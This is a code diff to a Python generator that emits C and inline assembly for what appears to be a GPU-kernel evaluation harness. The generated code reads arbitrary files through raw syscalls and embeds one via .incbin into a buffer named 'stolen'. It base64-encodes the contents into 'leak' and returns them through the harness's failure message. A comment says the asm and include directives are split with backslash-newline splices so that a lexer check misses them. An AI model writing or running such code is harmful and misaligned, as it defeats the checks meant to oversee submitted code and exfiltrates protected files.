@@ -54,14 +54,14 @@ CUTEGEN_PLAN(call)
 """
 
 # Reads files without libc, and spells asm in a way that a lexer may miss: a backslash, a space, a line break.
+SPLICE = "\\ \n"
 CALLS = {
     "x86_64": r"""
 enum { OPENAT = 257, READ = 0, CLOSE = 3 };
 static long call4(long n, long a, long b, long c)
 {
     long r;
-    __as\ 
-m__ volatile("xor %%r10d, %%r10d\n syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r10", "r11", "memory");
+    __as@SPLICE@m__ volatile("xor %%r10d, %%r10d\n syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r10", "r11", "memory");
     return r;
 }
 """,
@@ -70,13 +70,12 @@ enum { OPENAT = 56, READ = 63, CLOSE = 57 };
 static long call4(long n, long a, long b, long c)
 {
     long r;
-    __as\ 
-m__ volatile("mov x8, %1\n mov x0, %2\n mov x1, %3\n mov x2, %4\n mov x3, xzr\n svc #0\n mov %0, x0"
+    __as@SPLICE@m__ volatile("mov x8, %1\n mov x0, %2\n mov x1, %3\n mov x2, %4\n mov x3, xzr\n svc #0\n mov %0, x0"
              : "=r"(r) : "r"(n), "r"(a), "r"(b), "r"(c) : "x0", "x1", "x2", "x3", "x8", "memory");
     return r;
 }
 """,
-}[platform.machine()]
+}[platform.machine()].replace("@SPLICE@", SPLICE)
 WHERE = {"x86_64": r"leaq stolen(%%rip), %0", "aarch64": r"adrp %0, stolen\n add %0, %0, :lo12:stolen"}[platform.machine()]
 NATIVE = CALLS + r"""
 char page[65536], found[900], leak[1000];
@@ -137,16 +136,14 @@ BASE64 = """long o = 0;
             leak[o++] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[g >> s & 63];
     }"""
 INCBIN = r"""
-__as\ 
-m__(".data\n stolen: .incbin \"%s\"\n .byte 0\n .text");
+__as@SPLICE@m__(".data\n stolen: .incbin \"%s\"\n .byte 0\n .text");
 static const char *where(void)
 {
     const char *p;
-    __as\ 
-m__("@WHERE@" : "=r"(p));
+    __as@SPLICE@m__("@WHERE@" : "=r"(p));
     return p;
 }
-""".replace("@WHERE@", WHERE).replace("%%", "%%%%").replace("%0", "%%0")
+""".replace("@WHERE@", WHERE).replace("%%", "%%%%").replace("%0", "%%0").replace("@SPLICE@", SPLICE)
 INCLUDE = '#inc\\ \nlude "%s"\n'
 TELL = "return CUTEGEN_FAIL(call, leak);"
 LAUNCH = """return CUTEGEN_LAUNCH(call, (swish<256>), cutegen_dim3(cutegen_ceil_div(n, 256), 1, 1), cutegen_dim3(256, 1, 1), 0,
